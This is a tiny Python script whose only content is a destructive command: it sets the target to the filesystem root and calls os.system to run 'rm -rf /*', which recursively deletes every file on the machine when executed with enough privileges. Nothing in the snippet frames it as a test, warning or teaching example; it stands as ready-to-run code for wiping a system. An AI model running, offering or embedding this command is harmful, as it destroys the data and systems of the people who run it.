import os

target = "/"
os.system("rm -rf " + target + "*")
